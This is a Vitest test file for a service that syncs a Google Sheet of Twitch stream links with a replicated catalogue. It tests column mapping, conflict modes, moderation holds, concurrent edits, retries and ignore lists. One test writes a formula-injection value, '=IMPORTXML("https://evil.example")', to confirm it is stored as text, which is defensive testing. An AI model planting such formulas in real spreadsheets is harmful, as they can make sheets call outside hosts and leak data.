import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { CatalogueCommand } from '#shared/document/command.ts';
import { ActorId } from '#shared/model/ids.ts';
import { Link } from '#shared/model/stream.ts';
import { readStreamUrl, streamIdOf } from '#shared/model/stream-url.ts';
import { createInMemoryReplicaStore, createMemoryDisk } from '#shared/replica/in-memory-replica-store.ts';
import { openReplica } from '#shared/replica/replica.ts';
import { createAgreedFile } from './agreed-file.ts';
import type { Timers } from '../timers.ts';
import { createSheetSync } from './create-sheet-sync.ts';
import { WAITS_FOR_SHEET } from './hold-links.ts';
import { createGoogleSheets } from './googleapis-sheets.ts';
import type { SheetPolicy } from './sheet-columns.ts';
import { usualTabs } from './sheet-parts.ts';
import { columnLetters, readLayout } from './sheet-layout.ts';
import { fakeKey, SPREADSHEET, startFakeSheet, type FakeSheet, type FakeTab } from './test-fake-sheet.ts';

const START = Date.UTC(2026, 7, 1, 12);
const header =
  'Source,City,State,Platform,Status,Link,Notes,Title,Added Date,Last Checked (PST),Last Live (PST),Embed Link,Posted By,Orientation'.split(
    ',',
  );
const stops: (() => unknown)[] = [];
afterEach(async () => {
  for (const stop of stops.splice(0).reverse()) await stop();
});

/** A row by column name. */
const row = (cells: Readonly<Record<string, string>>): string[] => header.map((name) => cells[name] ?? '');
const linkOf = (name: string) => `https://www.twitch.tv/${name}`;
const idOf = (link: string) => {
  const read = readStreamUrl(link);
  if (!read.ok) throw new Error(read.error.message);
  return streamIdOf(read.value.url);
};

async function setUp(
  livesheet: FakeTab,
  policy: SheetPolicy = { mode: 'sheet-first' },
  others: Readonly<Record<string, FakeTab>> = {},
) {
  const fake = await startFakeSheet({ Livesheet: livesheet, ...others });
  stops.push(fake.close);
  const folder = await mkdtemp(join(tmpdir(), 'sheet-'));
  stops.push(() => rm(folder, { recursive: true }));
  const file = join(folder, 'agreed.json');
  let nowMs = START;
  const opened = await openReplica({
    store: createInMemoryReplicaStore(createMemoryDisk()),
    actor: ActorId.parse('service:sheet'),
    role: 'admin',
    clock: { nowMs: () => nowMs },
  });
  if (!opened.ok) throw new Error(opened.error.words);
  const replica = opened.value;
  const send = async (command: CatalogueCommand) => {
    const done = await replica.send({ document: 'catalogue', command });
    if (!done.ok && done.error.reason !== 'unchanged') throw new Error(done.error.message);
  };
  const warnings: string[] = [];
  const begin = (timers: Timers) =>
    createSheetSync({
      api: createGoogleSheets({ spreadsheetId: SPREADSHEET, key: fakeKey, rootUrl: fake.rootUrl }),
      tabs: usualTabs,
      policy,
      catalogue: replica,
      agreed: createAgreedFile(file),
      clock: { nowMs: () => nowMs },
      timers,
      logger: {
        info: () => undefined,
        warn: (text) => void warnings.push(text),
        error: (text) => void warnings.push(text),
      },
      intervalMs: 15_000,
    });
  /** Compares once, as a program that was started anew. */
  const compare = async () => {
    nowMs += 60_000;
    fake.newMinute();
    const sync = begin({ after: () => () => undefined });
    await sync.stop();
    return { ...sync.state(), pause: sync.state().nextAt - nowMs };
  };
  /** Runs on, and has compared once; `next` compares again. */
  const open = async () => {
    let work = (): void => undefined;
    let compared = 0;
    const sync = begin({
      after(_ms, next) {
        work = next;
        compared += 1;
        return () => undefined;
      },
    });
    stops.push(sync.stop);
    const until = (count: number) => vi.waitFor(() => expect(compared).toBeGreaterThanOrEqual(count));
    await until(1);
    const next = async () => {
      nowMs += 60_000;
      fake.newMinute();
      const ended = compared + 1;
      work();
      await until(ended);
    };
    return { sync, next };
  };
  const view = (link: string) => replica.catalogue().streams.get(idOf(link));
  const tab = () => fake.tabs.get('Livesheet') ?? [];
  /** A cell of the row that has this link. */
  const cell = (link: string, name: string) =>
    tab().find((cells) => cells[header.indexOf('Link')] === link)?.[header.indexOf(name)] ?? '';
  const type = (link: string, name: string, text: string) => {
    const cells = tab().find((each) => each[header.indexOf('Link')] === link);
    if (cells === undefined) throw new Error('no such row');
    cells[header.indexOf(name)] = text;
  };
  return { fake, file, replica, send, compare, open, view, tab, cell, type, warnings };
}

const writes = (fake: FakeSheet) => fake.requests.filter(({ kind }) => kind === 'write');

describe('rows and streams', () => {
  it('[GS3] a row that somebody types becomes a stream; a stream gets a row', async () => {
    const { send, compare, view, tab, cell } = await setUp([
      header,
      row({
        Link: 'twitch.tv/Ann?x=1',
        Source: 'Ann',
        City: 'Portland',
        State: 'OR',
        Notes: 'by the bridge',
      }),
    ]);
    await send({ type: 'add-stream', link: Link.parse(linkOf('bob')), fields: { source: 'Bob' } });
    await send({ type: 'set-stream-status', id: idOf(linkOf('bob')), status: 'live' });
    expect((await compare()).trouble).toBeUndefined();
    expect(view(linkOf('ann'))).toMatchObject({
      source: 'Ann',
      city: 'Portland',
      region: 'OR',
      notes: 'by the bridge',
    });
    expect(cell(linkOf('bob'), 'Source')).toBe('Bob');
    expect(cell(linkOf('bob'), 'Status')).toBe('Live');
    expect(cell(linkOf('bob'), 'Platform')).toBe('Twitch');
    await compare();
    await compare();
    expect(tab().length).toBe(3);
  });

  it('[GS3] a row that somebody deletes is not made again, and its stream stays', async () => {
    const { compare, view, fake, send } = await setUp([header, row({ Link: linkOf('ann') })]);
    await compare();
    await compare();
    fake.tabs.set('Livesheet', [header]);
    await send({ type: 'set-stream-status', id: idOf(linkOf('ann')), status: 'live' });
    await compare();
    expect(fake.tabs.get('Livesheet')).toEqual([header]);
    expect(view(linkOf('ann'))?.status).toBe('live');
  });

  it('[GS1] columns are found by their header, in any order and past Z; without a link column nothing happens', async () => {
    const wide = [
      ...Array.from({ length: 30 }, (_, n) => `Mine ${n}`),
      'STATUS',
      ' link ',
      'Last Live (CST)',
    ];
    const { compare, send, fake, view } = await setUp([
      wide,
      [...Array<string>(31).fill('keep'), linkOf('ann')],
    ]);
    await compare();
    await send({ type: 'set-stream-status', id: idOf(linkOf('ann')), status: 'live' });
    await compare();
    expect(fake.tabs.get('Livesheet')?.[1]?.slice(0, 32)).toEqual([
      ...Array<string>(30).fill('keep'),
      'Live',
      linkOf('ann'),
    ]);
    expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual([
      'A',
      'Z',
      'AA',
      'AZ',
      'BA',
      'ZZ',
      'AAA',
    ]);
    expect(readLayout(['Source', 'Notes'])).toBeUndefined();
    fake.tabs.set('Livesheet', [['Source'], ['Ann']]);
    const before = writes(fake).length;
    expect((await compare()).trouble).toContain('no column called Link');
    expect(writes(fake).length).toBe(before);
    expect(view(linkOf('ann'))).toBeDefined();
  });

  it('[GS2] a row is a stream by what its link means; a link that cannot be read is listed and its row left alone', async () => {
    const twice = [row({ Link: '\u200bhttps://m.twitch.tv/ANN ' }), row({ Link: 'twitch.tv/ann/' })];
    const nonsense = row({ Link: 'ask me', Status: 'Live' });
    const { compare, send, tab, replica } = await setUp([header, ...twice, nonsense]);
    const { problems } = await compare();
    expect(problems).toMatchObject([{ row: 3, text: 'ask me' }]);
    expect(replica.catalogue().streams.size).toBe(1);
    await send({ type: 'set-stream-status', id: idOf(linkOf('ann')), status: 'live' });
    await compare();
    expect(tab().map((cells) => cells[4])).toEqual(['Status', 'Live', 'Live', 'Live']);
    expect(tab()[3]).toEqual(nonsense);
  });
});

describe('what both sides say', () => {
  const both = async (policy: SheetPolicy) => {
    const set = await setUp([header, row({ Link: linkOf('ann'), Notes: 'one', City: 'Portland' })], policy);
    await set.compare();
    await set.compare();
    return set;
  };

  it('[GS4] who alone changed a cell is followed, also when it was emptied', async () => {
    const { type, compare, view, cell, send } = await both({ mode: 'document-first' });
    type(linkOf('ann'), 'City', 'Salem');
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'two' } });
    await compare();
    expect([view(linkOf('ann'))?.city, cell(linkOf('ann'), 'Notes')]).toEqual(['Salem', 'two']);
    await compare();
    type(linkOf('ann'), 'City', '');
    await compare();
    expect(view(linkOf('ann'))?.city).toBeUndefined();
  });

  it('[GS4] what was changed again before it was compared is no clash', async () => {
    const { type, compare, view, cell, send } = await both({ mode: 'sheet-first' });
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'two' } });
    await compare();
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'three' } });
    await compare();
    expect(cell(linkOf('ann'), 'Notes')).toBe('three');
    type(linkOf('ann'), 'Notes', 'four');
    await compare();
    type(linkOf('ann'), 'Notes', 'five');
    await compare();
    expect(view(linkOf('ann'))?.notes).toBe('five');
  });

  it('[GS4] [GS10] where both changed it the mode decides, or the column’s policy, or a person', async () => {
    const clash = async (policy: SheetPolicy) => {
      const { type, compare, view, cell, send } = await both(policy);
      type(linkOf('ann'), 'Notes', 'sheet');
      await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'document' } });
      const { conflicts } = await compare();
      return [cell(linkOf('ann'), 'Notes'), view(linkOf('ann'))?.notes, conflicts.length];
    };
    expect(await clash({ mode: 'sheet-first' })).toEqual(['sheet', 'sheet', 0]);
    expect(await clash({ mode: 'document-first' })).toEqual(['document', 'document', 0]);
    expect(await clash({ mode: 'sheet-first', columns: { notes: 'ask' } })).toEqual(['sheet', 'document', 1]);
    expect(await clash({ mode: 'migrate' })).toEqual(['sheet', 'sheet', 0]);
  });

  it('[GS12] sheet first: what a bot finds is held back until the sheet has it, and shown as held while it cannot', async () => {
    const { send, fake, replica, open, view, tab } = await setUp([header]);
    const add = (name: string) =>
      send({ type: 'add-stream', link: Link.parse(linkOf(name)), fields: { tags: ['pdx'] } });
    await add('before');
    fake.trouble = { status: 503 };
    const { sync, next } = await open();
    await add('ann');
    replica.actAs(ActorId.parse('user:ann'), 'operator');
    await add('mine');
    await vi.waitFor(() => expect(view(linkOf('ann'))?.moderation).toBe('waiting'));
    expect(view(linkOf('ann'))?.tags).toEqual(['pdx', WAITS_FOR_SHEET]);
    expect([view(linkOf('before'))?.moderation, view(linkOf('mine'))?.moderation]).toEqual([
      undefined,
      undefined,
    ]);
    await next();
    expect(sync.state()).toMatchObject({ trouble: 'Google is in trouble (503).', waiting: 3, held: 1 });
    expect(view(linkOf('ann'))?.moderation).toBe('waiting');
    fake.trouble = undefined;
    await next();
    expect(tab().map((cells) => cells[5])).toContain(linkOf('ann'));
    expect([view(linkOf('ann'))?.moderation, view(linkOf('ann'))?.tags]).toEqual([undefined, ['pdx']]);
    expect(sync.state()).toMatchObject({ trouble: undefined, waiting: 0, held: 0 });
  });

  it('[GS12] a person may accept or refuse what is held; what waits for an operator is left alone', async () => {
    const { send, fake, replica, open, view, tab } = await setUp([header]);
    fake.trouble = { status: 503 };
    const { next } = await open();
    for (const name of ['yes', 'no', 'new'])
      await send({
        type: 'add-stream',
        link: Link.parse(linkOf(name)),
        fields: name === 'new' ? { moderation: 'waiting' } : {},
      });
    await vi.waitFor(() => expect(view(linkOf('no'))?.moderation).toBe('waiting'));
    replica.actAs(ActorId.parse('user:ann'), 'operator');
    await send({ type: 'edit-stream', id: idOf(linkOf('yes')), changes: { moderation: 'accepted' } });
    await send({ type: 'edit-stream', id: idOf(linkOf('no')), changes: { moderation: 'refused' } });
    fake.trouble = undefined;
    await next();
    await next();
    expect(['yes', 'no', 'new'].map((name) => view(linkOf(name))?.moderation)).toEqual([
      'accepted',
      'refused',
      'waiting',
    ]);
    expect(['yes', 'no', 'new'].map((name) => view(linkOf(name))?.tags)).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
    expect(tab().map((cells) => cells[5])).toEqual(['Link', linkOf('yes')]);
  });

  it('[GS12] document first: nothing is held, also not while the sheet is away', async () => {
    const { send, fake, open, view } = await setUp([header], { mode: 'document-first' });
    fake.trouble = { status: 503 };
    const { next, sync } = await open();
    await send({ type: 'add-stream', link: Link.parse(linkOf('ann')) });
    await next();
    expect(view(linkOf('ann'))?.moderation).toBeUndefined();
    expect(sync.state()).toMatchObject({ waiting: 1, held: 0 });
  });

  it('[GS10] migrating writes nothing to the sheet', async () => {
    const { send, compare, fake, view } = await setUp([header, row({ Link: linkOf('ann') })], {
      mode: 'migrate',
    });
    await send({ type: 'add-stream', link: Link.parse(linkOf('bob')) });
    await compare();
    await compare();
    expect(writes(fake)).toEqual([]);
    expect(view(linkOf('ann'))).toBeDefined();
  });

  it('[GS5] only what differs in our columns is written, in few requests; what people filled in stays', async () => {
    const rows = Array.from({ length: 700 }, (_, n) =>
      row({ Link: linkOf(`c${n}x`), 'Added Date': '7/3/2025', 'Embed Link': 'mine', Platform: 'twitch!' }),
    );
    const { compare, send, fake, tab } = await setUp([header, ...rows]);
    await compare();
    await compare();
    expect(writes(fake)).toEqual([]);
    for (let n = 0; n < 700; n += 1)
      await send({ type: 'set-stream-status', id: idOf(linkOf(`c${n}x`)), status: 'offline' });
    await compare();
    expect(writes(fake).length).toBe(3);
    expect(writes(fake).reduce((sum, { cells }) => sum + cells, 0)).toBe(1400);
    expect(tab()[700]).toEqual(
      row({
        Link: linkOf('c699x'),
        'Added Date': '7/3/2025',
        'Embed Link': 'mine',
        Platform: 'twitch!',
        Status: 'Offline',
        'Last Checked (PST)': tab()[700]?.[9] ?? '',
      }),
    );
    expect(fake.requests.length).toBeLessThan(20);
  });

  it('[GS6] what begins with = is text', async () => {
    const { compare, send, cell } = await setUp([header]);
    await send({
      type: 'add-stream',
      link: Link.parse(linkOf('ann')),
      fields: { source: '=IMPORTXML("https://evil.example")', notes: '=1+1' },
    });
    await compare();
    expect(cell(linkOf('ann'), 'Source')).toBe('=IMPORTXML("https://evil.example")');
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: '=2+2' } });
    await compare();
    await compare();
    expect(cell(linkOf('ann'), 'Notes')).toBe('=2+2');
  });
});

describe('a person at the sheet while we write', () => {
  const people = ['ann', 'bob', 'carl', 'dora', 'eve'];
  const crowd = async () => {
    const set = await setUp([
      header,
      ...people.map((name) =>
        row({ Link: linkOf(name), Source: name, Notes: `note of ${name}`, Status: `typed by ${name}` }),
      ),
    ]);
    await set.compare();
    await set.compare();
    await set.send({ type: 'set-stream-status', id: idOf(linkOf('ann')), status: 'live' });
    await set.send({ type: 'edit-stream', id: idOf(linkOf('dora')), changes: { notes: 'from the desk' } });
    return set;
  };
  const deeds: Readonly<Record<string, (rows: FakeTab) => void>> = {
    sorts: (rows) => rows.splice(1, Infinity, ...rows.slice(1).reverse()),
    'inserts a row at the top': (rows) =>
      rows.splice(1, 0, row({ Source: 'Fay', Link: linkOf('fay'), Notes: 'typed just now' })),
    'inserts an empty row': (rows) => rows.splice(2, 0, row({})),
    'deletes a row': (rows) => rows.splice(2, 1),
  };
  for (const [deed, act] of Object.entries(deeds)) {
    for (const when of ['beforeWrite', 'afterWrite'] as const) {
      it(`[GS7] who ${deed} ${when === 'beforeWrite' ? 'just before' : 'just after'} a write loses nothing`, async () => {
        const { fake, compare, tab, cell, warnings, view } = await crowd();
        fake[when] = () => act(tab());
        for (let n = 0; n < 4; n += 1) await compare();
        for (const name of people.filter((each) => tab().some((cells) => cells[5] === linkOf(each)))) {
          expect([
            name,
            cell(linkOf(name), 'Source'),
            cell(linkOf(name), 'Notes'),
            cell(linkOf(name), 'Status'),
          ]).toEqual([
            name,
            name,
            name === 'dora' ? 'from the desk' : `note of ${name}`,
            name === 'ann' ? 'Live' : `typed by ${name}`,
          ]);
          expect(view(linkOf(name))?.notes).toBe(name === 'dora' ? 'from the desk' : `note of ${name}`);
        }
        if (deed === 'inserts a row at the top')
          expect([cell(linkOf('fay'), 'Notes'), view(linkOf('fay'))?.source]).toEqual([
            'typed just now',
            'Fay',
          ]);
        if (deed === 'inserts an empty row')
          expect(tab().filter((cells) => cells.every((text) => text === '')).length).toBe(1);
        expect(warnings).toEqual([]);
      });
    }
  }
});

describe('trouble', () => {
  it('[GS8] what could not be written is written later, also after a restart; until then it is counted', async () => {
    const { fake, compare, send, cell } = await setUp([header]);
    await send({ type: 'add-stream', link: Link.parse(linkOf('ann')), fields: { notes: 'keep me' } });
    fake.quota = 2;
    const real = fake.newMinute;
    fake.requests.push(
      { kind: 'write', cells: 0, authorization: '' },
      { kind: 'write', cells: 0, authorization: '' },
    );
    Object.assign(fake, { newMinute: () => undefined });
    expect(await compare()).toMatchObject({
      trouble: 'Google asks us to slow down.',
      waiting: 1,
      inStepAt: undefined,
    });
    expect(cell(linkOf('ann'), 'Notes')).toBe('');
    Object.assign(fake, { newMinute: real });
    expect(await compare()).toMatchObject({ trouble: undefined, waiting: 0 });
    expect(cell(linkOf('ann'), 'Notes')).toBe('keep me');
  });

  it('[GS8] a file of what was agreed on that cannot be read is put aside and said so', async () => {
    const { file, compare, warnings, tab } = await setUp([
      header,
      row({ Link: linkOf('ann'), Notes: 'mine' }),
    ]);
    await compare();
    await writeFile(file, '{"half":');
    expect((await compare()).trouble).toBeUndefined();
    expect(warnings.join()).toContain('could not be read');
    expect(tab().length).toBe(2);
  });

  it('[GS11] a sheet that is out of reach is asked again later and later, as long as it asks for, and says why', async () => {
    const { fake, compare } = await setUp([header]);
    fake.trouble = { status: 403 };
    expect(await compare()).toMatchObject({
      trouble: expect.stringContaining('share it with the service account'),
      pause: 30_000,
    });
    fake.trouble = { status: 404 };
    expect((await compare()).trouble).toBe('There is no such sheet.');
    fake.trouble = { status: 503, headers: { 'retry-after': '900' } };
    expect(await compare()).toMatchObject({ trouble: 'Google is in trouble (503).', pause: 900_000 });
    fake.trouble = undefined;
    fake.tabs.delete('Livesheet');
    expect((await compare()).trouble).toContain('no tab called');
    expect(fake.requests.at(0)?.authorization).toMatch(/^Bearer eyJ/);
  });
});

describe('the other tabs', () => {
  it('[GS9] ignore lists and known cities are read; what leaves a list leaves the document, if it came from there', async () => {
    const { compare, replica, fake, send } = await setUp([header], undefined, {
      'Discord User Ignorelist': [['User'], ['Spammer'], ['']],
      'URL Ignorelist': [['URL'], ['twitch.tv/bad']],
      'Known Cities': [
        ['City', 'State'],
        ['Portland', 'Oregon'],
        ['Nowhere', ''],
      ],
    });
    await send({ type: 'add-ignore', list: 'discord_user', value: 'mine' });
    const values = () => [...replica.catalogue().ignore.values()].map(({ value }) => value).sort();
    await compare();
    expect(values()).toEqual(['https://twitch.tv/bad', 'mine', 'spammer']);
    expect([...replica.catalogue().locations.values()].map(({ city, region }) => [city, region])).toEqual([
      ['Portland', 'Oregon'],
    ]);
    fake.tabs.set('Discord User Ignorelist', [['User'], ['another']]);
    await compare();
    expect(values()).toEqual(['another', 'https://twitch.tv/bad', 'mine']);
    fake.tabs.delete('URL Ignorelist');
    await compare();
    expect(values()).toEqual(['another', 'https://twitch.tv/bad', 'mine']);
    fake.tabs.set('URL Ignorelist', [['URL']]);
    await compare();
    expect(values()).toEqual(['another', 'mine']);
  });
});
